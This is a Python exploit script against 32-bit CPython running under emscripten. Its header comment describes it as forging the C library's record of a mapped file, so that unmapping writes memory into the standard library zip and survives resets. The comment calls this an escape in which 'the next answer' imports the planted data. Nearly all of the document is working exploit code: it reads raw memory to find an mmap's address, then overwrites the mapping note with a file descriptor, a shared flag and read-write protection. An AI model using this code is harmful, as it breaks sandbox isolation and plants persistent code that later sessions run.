# hold: forges the C library's note of a mapped file, so that giving the mapping back writes memory into the standard library's file, which no reset puts back. Escape: the next answer imports what this one wrote.
# with: whole_memory
import mmap
import os
import struct

memory = whole_memory()
SIZE = 2**16
mapping = mmap.mmap(-1, SIZE)
fd = os.open('/lib/python314.zip', os.O_RDONLY)
DATA = 8  # offset of the address in an mmap object of 32-bit CPython
address = struct.unpack_from('<I', memory, id(mapping) + DATA)[0]
mapping[:] = b'\xa5' * SIZE
# emscripten's note follows the block: address, length, allocated, fd, flags, padding, offset, protection, next
note = address + SIZE
if struct.unpack_from('<2I', memory, note) != (address, SIZE):
    raise Exception('the note lies elsewhere')
SHARED, READ_WRITE = 1, 3
struct.pack_into('<2I', memory, note + 12, fd, SHARED)
struct.pack_into('<QI', memory, note + 24, 0, READ_WRITE)
mapping.close()
